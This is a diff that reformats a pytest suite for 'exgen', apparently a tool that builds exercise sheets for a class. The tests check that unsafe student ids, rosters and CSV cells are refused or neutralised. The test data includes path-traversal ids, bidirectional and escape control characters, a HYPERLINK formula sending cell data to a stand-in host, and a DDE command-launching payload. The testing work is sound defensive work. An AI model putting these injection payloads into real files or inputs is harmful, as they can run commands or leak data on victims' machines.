@@ -2,6 +2,7 @@
 folders it made, leaves no hidden folder behind (on failure, on SIGINT/SIGTERM, after a
 SIGKILL), ends its workers with itself, reports a worker's error like `exgen build`,
 refuses odd command-line bytes and odd rosters, and writes CSV no spreadsheet runs."""
+
 from __future__ import annotations
 
 import csv
@@ -80,8 +81,10 @@ def tiny(work: Path, text: str = TINY) -> Path:
 
 def snapshot(folder: Path) -> dict[str, bytes | None]:
     """Every path under ``folder`` with its bytes (None for folders)."""
-    return {str(p.relative_to(folder)): (p.read_bytes() if p.is_file() else None)
-            for p in sorted(folder.rglob("*"))}
+    return {
+        str(p.relative_to(folder)): (p.read_bytes() if p.is_file() else None)
+        for p in sorted(folder.rglob("*"))
+    }
 
 
 def hidden(folder: Path) -> list[str]:
@@ -89,6 +92,7 @@ def hidden(folder: Path) -> list[str]:
 
 
 # --- names and paths are checked before anything is written --------------------------------
+
 
 def test_a_file_named_dot_dot_yaml_does_not_replace_the_out_folder(tmp_path):
     (tmp_path / "defs").mkdir()
@@ -98,9 +102,11 @@ def test_a_file_named_dot_dot_yaml_does_not_replace_the_out_folder(tmp_path):
     before = snapshot(tmp_path)
     result = invoke(tmp_path, "build", "defs/..yaml", "--no-pdf")
     assert result.exit_code == 2
-    assert result.stderr == ("error: defs/..yaml: the sheet name '.' (the file's name without .yaml) "
-                             "must be 1–100 letters, digits, '.', '_' or '-', starting with a letter "
-                             "or digit: it names the output folder; rename the file\n")
+    assert result.stderr == (
+        "error: defs/..yaml: the sheet name '.' (the file's name without .yaml) "
+        "must be 1–100 letters, digits, '.', '_' or '-', starting with a letter "
+        "or digit: it names the output folder; rename the file\n"
+    )
     assert snapshot(tmp_path) == before
 
 
@@ -114,8 +120,9 @@ def test_a_folder_exgen_did_not_make_is_not_replaced(tmp_path, out, shown):
     for extra in ([], ["--variants", "2"]):
         result = invoke(tmp_path, "build", "defs/important.yaml", "--out", out, "--no-pdf", *extra)
         assert result.exit_code == 3, result.output
-        assert result.stderr == (f"error: {shown}: exists and was not made by exgen; "
-                                 "remove it or choose another --out\n")
+        assert result.stderr == (
+            f"error: {shown}: exists and was not made by exgen; remove it or choose another --out\n"
+        )
         assert snapshot(tmp_path) == before
 
 
@@ -125,9 +132,11 @@ def test_output_of_an_exgen_without_markers_is_refused_with_a_hint(tmp_path):
     (tmp_path / "out" / "tiny" / "key.json").write_text("{}")
     result = invoke(tmp_path, "build", "tiny", "--no-pdf")
     assert result.exit_code == 3
-    assert result.stderr == ("error: out/tiny: exists and was not made by exgen (no .exgen marker: "
-                             "outputs of earlier exgen versions have none); remove it or choose "
-                             "another --out\n")
+    assert result.stderr == (
+        "error: out/tiny: exists and was not made by exgen (no .exgen marker: "
+        "outputs of earlier exgen versions have none); remove it or choose "
+        "another --out\n"
+    )
 
 
 def test_a_link_in_place_of_the_output_is_not_followed(tmp_path):
@@ -156,6 +165,7 @@ def test_every_build_marks_the_folders_it_may_replace(tmp_path):
 
 # --- --student names a student of the class -------------------------------------------------
 
+
 @pytest.mark.parametrize("ident", ["VICTIM", "../../../x", ".", "..", "a/b", "-rf"])
 def test_student_ids_that_are_paths_are_refused_before_anything_happens(tmp_path, ident):
     tiny(tmp_path)
@@ -168,8 +178,10 @@ def test_student_ids_that_are_paths_are_refused_before_anything_happens(tmp_path
     for extra in ([], ["--variants", "2"]):
         result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--student", ident, *extra)
         assert result.exit_code == 2
-        assert result.stderr == (f"error: --student {ident!r}: a student id is {ID_RULE} "
-                                 "(it names the student's folder)\n")
+        assert result.stderr == (
+            f"error: --student {ident!r}: a student id is {ID_RULE} "
+            "(it names the student's folder)\n"
+        )
         assert snapshot(tmp_path) == before
     assert not (tmp_path.parents[2] / "x").exists()
 
@@ -177,7 +189,9 @@ def test_student_ids_that_are_paths_are_refused_before_anything_happens(tmp_path
 def test_student_must_be_in_the_roster(tmp_path):
     tiny(tmp_path)
     (tmp_path / "class.csv").write_text("id,name\na1,Ada\nb2,Bo\n")
-    result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--roster", "class.csv", "--student", "zz9")
+    result = invoke(
+        tmp_path, "build", "tiny", "--no-pdf", "--roster", "class.csv", "--student", "zz9"
+    )
     assert result.exit_code == 2
     assert result.stderr == "error: --student 'zz9' is not a student of the roster class.csv\n"
     assert not (tmp_path / "out").exists()
@@ -197,14 +211,18 @@ def test_student_alone_comes_from_the_class_build(tmp_path):
     tiny(tmp_path)
     result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--student", "a1")
     assert result.exit_code == 2
-    assert result.stderr == ("error: --student: out/tiny holds no class build to take the student "
-                             "from; give --roster or --variants as well\n")
+    assert result.stderr == (
+        "error: --student: out/tiny holds no class build to take the student "
+        "from; give --roster or --variants as well\n"
+    )
     assert not (tmp_path / "out").exists()
     (tmp_path / "class.csv").write_text("id,name\na1,Ada Lovelace\nb2,Bo\n")
     assert invoke(tmp_path, "build", "tiny", "--no-pdf", "--roster", "class.csv").exit_code == 0
     first = (tmp_path / "out/tiny/variants/a1/key.json").read_bytes()
     result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--student", "zz9")
-    assert result.stderr == "error: --student 'zz9' is not a student of the class build in out/tiny\n"
+    assert (
+        result.stderr == "error: --student 'zz9' is not a student of the class build in out/tiny\n"
+    )
     result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--student", "a1")
     assert result.exit_code == 0, result.output
     assert result.stdout == "built out/tiny/variants/a1/ for 1 student\n"
@@ -216,12 +234,15 @@ def test_student_alone_comes_from_the_class_build(tmp_path):
 def test_roster_and_variants_together_are_refused(tmp_path):
     tiny(tmp_path)
     (tmp_path / "class.csv").write_text("id\na1\n")
-    result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--roster", "class.csv", "--variants", "2")
+    result = invoke(
+        tmp_path, "build", "tiny", "--no-pdf", "--roster", "class.csv", "--variants", "2"
+    )
     assert result.exit_code == 2
     assert result.stderr == "error: give --roster or --variants, not both\n"
 
 
 # --- no hidden folder is left ----------------------------------------------------------------
+
 
 def test_a_failed_write_leaves_the_earlier_output_and_nothing_else(tmp_path, monkeypatch):
     tiny(tmp_path)
@@ -242,9 +263,14 @@ def test_a_failed_write_leaves_the_earlier_output_and_nothing_else(tmp_path, mon
 def test_leftovers_of_a_killed_build_go_at_the_next_build(tmp_path):
     tiny(tmp_path)
     out = tmp_path / "out"
-    for name, marked in [(".tiny.new-abcdefgh", True), (".tiny.old-a1b2c3d4", True),
-                         (".tiny.old-emptyyyy", False), (".tiny.new-zzzzzzzz", False),
-                         (".other.new-abcdefgh", True), (".tiny.new-toolong12", True)]:
+    for name, marked in [
+        (".tiny.new-abcdefgh", True),
+        (".tiny.old-a1b2c3d4", True),
+        (".tiny.old-emptyyyy", False),
+        (".tiny.new-zzzzzzzz", False),
+        (".other.new-abcdefgh", True),
+        (".tiny.new-toolong12", True),
+    ]:
         (out / name / "variants").mkdir(parents=True)
         if marked:
             (out / name / MARKER).write_bytes(b"")
@@ -253,8 +279,12 @@ def test_leftovers_of_a_killed_build_go_at_the_next_build(tmp_path):
     (out / ".tiny.old-emptyyyy" / "variants").rmdir()
     assert invoke(tmp_path, "build", "tiny", "--no-pdf").exit_code == 0
     # only exgen's names with exgen's marker (or empty) are removed
-    assert sorted(os.listdir(out)) == [".other.new-abcdefgh", ".tiny.new-toolong12",
-                                       ".tiny.new-zzzzzzzz", "tiny"]
+    assert sorted(os.listdir(out)) == [
+        ".other.new-abcdefgh",
+        ".tiny.new-toolong12",
+        ".tiny.new-zzzzzzzz",
+        "tiny",
+    ]
 
 
 def test_a_staging_folder_another_build_holds_is_left_alone(tmp_path):
@@ -299,8 +329,15 @@ def _unprivileged(cmd: list[str]) -> list[str]:
     setpriv = shutil.which("setpriv")
     if setpriv is None:
         pytest.skip("root without setpriv: file permissions cannot be tested")
-    return [setpriv, "--bounding-set", "-dac_override,-dac_read_search,-fowner",
-            "--inh-caps", "-all", "--", *cmd]
+    return [
+        setpriv,
+        "--bounding-set",
+        "-dac_override,-dac_read_search,-fowner",
+        "--inh-caps",
+        "-all",
+        "--",
+        *cmd,
+    ]
 
 
 def test_a_read_only_earlier_output_is_replaced_without_leftovers(tmp_path):
@@ -308,16 +345,24 @@ def test_a_read_only_earlier_output_is_replaced_without_leftovers(tmp_path):
     assert invoke(tmp_path, "build", "tiny", "--no-pdf", "--variants", "2").exit_code == 0
     for path in sorted((tmp_path / "out/tiny").rglob("*"), reverse=True) + [tmp_path / "out/tiny"]:
         path.chmod(0o555 if path.is_dir() else 0o444)
-    result = subprocess.run(_unprivileged([sys.executable, "-m", "exgen", "build", "tiny",
-                                           "--no-pdf", "--variants", "3"]),
-                            cwd=tmp_path, env=ENV, capture_output=True, text=True, timeout=120,
-                            check=False)
+    result = subprocess.run(
+        _unprivileged(
+            [sys.executable, "-m", "exgen", "build", "tiny", "--no-pdf", "--variants", "3"]
+        ),
+        cwd=tmp_path,
+        env=ENV,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
     assert result.returncode == 0, result.stderr
     assert sorted(os.listdir(tmp_path / "out")) == ["tiny"]
     assert sorted(os.listdir(tmp_path / "out/tiny/variants")) == ["001", "002", "003"]
 
 
 # --- class builds: interrupts, kills, workers ------------------------------------------------
+
 
 def _children(pid: int) -> list[int]:
     found = []
@@ -354,9 +399,25 @@ def _class_build_under_way(work: Path):
     assert invoke(work, "build", "sheet9", "--no-pdf").exit_code == 0  # an earlier output
     earlier = snapshot(work / "out")
     with open(work / "stderr", "w") as err:
-        process = subprocess.Popen([sys.executable, "-m", "exgen", "build", "sheet9", "--variants",
-                                    "400", "--no-pdf", "--jobs", "2"], cwd=work, env=ENV,
-                                   stdout=err, stderr=err, start_new_session=True)
+        process = subprocess.Popen(
+            [
+                sys.executable,
+                "-m",
+                "exgen",
+                "build",
+                "sheet9",
+                "--variants",
+                "400",
+                "--no-pdf",
+                "--jobs",
+                "2",
+            ],
+            cwd=work,
+            env=ENV,
+            stdout=err,
+            stderr=err,
+            start_new_session=True,
+        )
 
     def busy():
         return list((work / "out").glob(".sheet9.new-*/variants/*")) or process.poll() is not None
@@ -369,11 +430,14 @@ def _class_build_under_way(work: Path):
 
 
 @pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
-@pytest.mark.parametrize("how, status, message", [
-    ("ctrl-c", 130, "interrupted\n"),   # SIGINT to the whole process group, as a terminal does
-    ("sigint", 130, "interrupted\n"),
-    ("sigterm", 143, "terminated\n"),
-])
+@pytest.mark.parametrize(
+    "how, status, message",
+    [
+        ("ctrl-c", 130, "interrupted\n"),  # SIGINT to the whole process group, as a terminal does
+        ("sigint", 130, "interrupted\n"),
+        ("sigterm", 143, "terminated\n"),
+    ],
+)
 def test_an_interrupted_class_build_stops_cleanly(tmp_path, how, status, message):
     process, workers, earlier = _class_build_under_way(tmp_path)
     if how == "ctrl-c":
@@ -398,6 +462,7 @@ def test_a_killed_class_build_takes_its_workers_and_its_leftovers_go_next_time(t
 
 
 # --- errors from the workers read as in `exgen build` ----------------------------------------
+
 
 def _error_classes():
     for info in pkgutil.walk_packages(exgen.__path__, "exgen."):
@@ -426,8 +491,10 @@ def test_an_exercise_that_cannot_be_computed_reads_the_same_in_a_class_build(tmp
     tiny(tmp_path, TINY + LOG0)
     single = invoke(tmp_path, "build", "tiny", "--no-pdf")
     assert single.exit_code == 2
-    assert single.stderr == ("error: exercises/tiny.yaml:18: exercises[1].network.equations[0]: "
-                             "'log(c)' takes the log of a value ≤ 0\n")
+    assert single.stderr == (
+        "error: exercises/tiny.yaml:18: exercises[1].network.equations[0]: "
+        "'log(c)' takes the log of a value ≤ 0\n"
+    )
     for jobs in ("1", "2"):
         result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--variants", "3", "--jobs", jobs)
         assert (result.exit_code, result.stderr) == (2, single.stderr)
@@ -436,21 +503,45 @@ def test_an_exercise_that_cannot_be_computed_reads_the_same_in_a_class_build(tmp
 
 # --- command-line bytes that are not UTF-8 ---------------------------------------------------
 
-@pytest.mark.parametrize("option, message", [
-    ("--seed", "error: --seed '\\xff': not UTF-8 text\n"),
-    ("--student", f"error: --student '\\xff': a student id is {ID_RULE} (it names the student's folder)\n"),
-])
+
+@pytest.mark.parametrize(
+    "option, message",
+    [
+        ("--seed", "error: --seed '\\xff': not UTF-8 text\n"),
+        (
+            "--student",
+            f"error: --student '\\xff': a student id is {ID_RULE} (it names the student's folder)\n",
+        ),
+    ],
+)
 def test_arguments_that_are_not_utf8(tmp_path, option, message):
     tiny(tmp_path)
-    result = subprocess.run([sys.executable.encode(), b"-m", b"exgen", b"build", b"tiny", b"--no-pdf",
-                             b"--variants", b"2", option.encode(), b"\xff"],
-                            cwd=tmp_path, env=ENV, capture_output=True, timeout=60, check=False)
+    result = subprocess.run(
+        [
+            sys.executable.encode(),
+            b"-m",
+            b"exgen",
+            b"build",
+            b"tiny",
+            b"--no-pdf",
+            b"--variants",
+            b"2",
+            option.encode(),
+            b"\xff",
+        ],
+        cwd=tmp_path,
+        env=ENV,
+        capture_output=True,
+        timeout=60,
+        check=False,
+    )
     assert result.returncode == 2
     assert result.stderr.decode() == message
     assert not (tmp_path / "out").exists()
 
 
 # --- rosters ---------------------------------------------------------------------------------
+
 
 def _roster_error(work: Path, roster: str) -> tuple[int, str]:
     tiny(work)
@@ -460,43 +551,89 @@ def _roster_error(work: Path, roster: str) -> tuple[int, str]:
 
 
 def test_a_device_is_no_roster(tmp_path):
-    assert _roster_error(tmp_path, "/dev/zero") == \
-        (2, "error: /dev/zero: the roster is not a regular file\n")
+    assert _roster_error(tmp_path, "/dev/zero") == (
+        2,
+        "error: /dev/zero: the roster is not a regular file\n",
+    )
 
 
 @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
 def test_a_fifo_is_no_roster_and_does_not_block(tmp_path):
     tiny(tmp_path)
     os.mkfifo(tmp_path / "class.csv")
-    result = subprocess.run([sys.executable, "-m", "exgen", "build", "tiny", "--no-pdf", "--roster",
-                             "class.csv"], cwd=tmp_path, env=ENV, capture_output=True, text=True,
-                            timeout=60, check=False)
-    assert (result.returncode, result.stderr) == \
-        (2, "error: class.csv: the roster is not a regular file\n")
+    result = subprocess.run(
+        [sys.executable, "-m", "exgen", "build", "tiny", "--no-pdf", "--roster", "class.csv"],
+        cwd=tmp_path,
+        env=ENV,
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+    assert (result.returncode, result.stderr) == (
+        2,
+        "error: class.csv: the roster is not a regular file\n",
+    )
 
 
 def test_a_huge_roster_is_not_read(tmp_path):
     with open(tmp_path / "class.csv", "wb") as f:
         f.truncate(5 * 1024 * 1024)
-    assert _roster_error(tmp_path, "class.csv") == \
-        (2, "error: class.csv: the roster has 5,242,880 bytes; at most 4,194,304 are read\n")
+    assert _roster_error(tmp_path, "class.csv") == (
+        2,
+        "error: class.csv: the roster has 5,242,880 bytes; at most 4,194,304 are read\n",
+    )
 
 
-@pytest.mark.parametrize("name, message", [
-    ("x" * 131_072, "class.csv:3: the name of student 'b2' has 131,072 characters; at most 200"),
-    ("x" * 200_000, "class.csv:3: a cell longer than 131,072 characters (names have at most 200)"),
-    ("x" * 201, "class.csv:3: the name of student 'b2' has 201 characters; at most 200"),
-    ("Ada\u202eecila", "class.csv:3: the name of student 'b2' contains a bidirectional control "
-                       "(U+202E), which would hide or reorder text; write the name without it"),
-    ("\u202aAda", "class.csv:3: the name of student 'b2' contains a bidirectional control (U+202A), "
-                  "which would hide or reorder text; write the name without it"),
-    ("Ada\u2066x\u2069", "class.csv:3: the name of student 'b2' contains a bidirectional control "
-                         "(U+2066), which would hide or reorder text; write the name without it"),
-    ("Ada\x1b[31m", "class.csv:3: the name of student 'b2' contains a control character (U+001B), "
-                    "which would hide or reorder text; write the name without it"),
-    ('"Ada\nLovelace"', "class.csv:4: the name of student 'b2' contains a control character "
-                        "(U+000A), which would hide or reorder text; write the name without it"),
-], ids=["131072 characters", "200000 characters", "201 characters", "U+202E", "U+202A", "U+2066", "ESC", "newline"])
+@pytest.mark.parametrize(
+    "name, message",
+    [
+        (
+            "x" * 131_072,
+            "class.csv:3: the name of student 'b2' has 131,072 characters; at most 200",
+        ),
+        (
+            "x" * 200_000,
+            "class.csv:3: a cell longer than 131,072 characters (names have at most 200)",
+        ),
+        ("x" * 201, "class.csv:3: the name of student 'b2' has 201 characters; at most 200"),
+        (
+            "Ada\u202eecila",
+            "class.csv:3: the name of student 'b2' contains a bidirectional control "
+            "(U+202E), which would hide or reorder text; write the name without it",
+        ),
+        (
+            "\u202aAda",
+            "class.csv:3: the name of student 'b2' contains a bidirectional control (U+202A), "
+            "which would hide or reorder text; write the name without it",
+        ),
+        (
+            "Ada\u2066x\u2069",
+            "class.csv:3: the name of student 'b2' contains a bidirectional control "
+            "(U+2066), which would hide or reorder text; write the name without it",
+        ),
+        (
+            "Ada\x1b[31m",
+            "class.csv:3: the name of student 'b2' contains a control character (U+001B), "
+            "which would hide or reorder text; write the name without it",
+        ),
+        (
+            '"Ada\nLovelace"',
+            "class.csv:4: the name of student 'b2' contains a control character "
+            "(U+000A), which would hide or reorder text; write the name without it",
+        ),
+    ],
+    ids=[
+        "131072 characters",
+        "200000 characters",
+        "201 characters",
+        "U+202E",
+        "U+202A",
+        "U+2066",
+        "ESC",
+        "newline",
+    ],
+)
 def test_roster_names_that_are_refused(tmp_path, name, message):
     (tmp_path / "class.csv").write_text(f"id,name\na1,Ada\nb2,{name}\n", encoding="utf-8")
     assert _roster_error(tmp_path, "class.csv") == (2, f"error: {message}\n")
@@ -504,22 +641,29 @@ def test_roster_names_that_are_refused(tmp_path, name, message):
 
 # --- CSV cells -------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("cell, written", [
-    ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
-    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
-    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("-2+3", "'-2+3"),
-    ("\t=1", "'\t=1"),
-    ("\r=1", "'\r=1"),
-    ("  =1+1", "'  =1+1"),
-    ("-", "'-"),
-    ("-1.96", "-1.96"),
-    ("+0.5", "+0.5"),
-    ("-1.5e-05", "-1.5e-05"),
-    ("1.96", "1.96"),
-    ("Ada Lovelace", "Ada Lovelace"),
-    ("", ""),
-])
+
+@pytest.mark.parametrize(
+    "cell, written",
+    [
+        (
+            '=HYPERLINK("http://x.example/?"&A1,"click")',
+            '\'=HYPERLINK("http://x.example/?"&A1,"click")',
+        ),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("-2+3", "'-2+3"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("  =1+1", "'  =1+1"),
+        ("-", "'-"),
+        ("-1.96", "-1.96"),
+        ("+0.5", "+0.5"),
+        ("-1.5e-05", "-1.5e-05"),
+        ("1.96", "1.96"),
+        ("Ada Lovelace", "Ada Lovelace"),
+        ("", ""),
+    ],
+)
 def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cell, written):
     assert safe_cell(cell) == written
     assert next(csv.reader(io.StringIO(csv_bytes([[cell]]).decode()))) == [written]
@@ -527,15 +671,23 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cell, written):
 
 def test_answers_csv_keeps_numbers_and_defuses_names(tmp_path):
     tiny(tmp_path)
-    (tmp_path / "class.csv").write_text('id,name\na1,"=HYPERLINK(""http://x.example"",""x"")"\n'
-                                        "b2,@SUM(A1:A9)\nc3,-2+3\nd4,Ada\n", encoding="utf-8")
+    (tmp_path / "class.csv").write_text(
+        'id,name\na1,"=HYPERLINK(""http://x.example"",""x"")"\nb2,@SUM(A1:A9)\nc3,-2+3\nd4,Ada\n',
+        encoding="utf-8",
+    )
     result = invoke(tmp_path, "build", "tiny", "--no-pdf", "--roster", "class.csv")
     assert result.exit_code == 0, result.output
     rows = list(csv.DictReader(io.StringIO((tmp_path / "out/tiny/answers.csv").read_text())))
-    assert [r["name"] for r in rows] == ["'=HYPERLINK(\"http://x.example\",\"x\")", "'@SUM(A1:A9)",
-                                         "'-2+3", "Ada"]
-    keys = {s: json.loads((tmp_path / "out/tiny/variants" / s / "key.json").read_text())
-            for s in ("a1", "b2", "c3", "d4")}
+    assert [r["name"] for r in rows] == [
+        '\'=HYPERLINK("http://x.example","x")',
+        "'@SUM(A1:A9)",
+        "'-2+3",
+        "Ada",
+    ]
+    keys = {
+        s: json.loads((tmp_path / "out/tiny/variants" / s / "key.json").read_text())
+        for s in ("a1", "b2", "c3", "d4")
+    }
     for row in rows:
         shown = keys[row["id"]]["exercises"]["e"]["grads"]["w"]["shown"]
         assert shown.startswith("-") and row["e dL/dw"] == shown  # a negative number stays a number
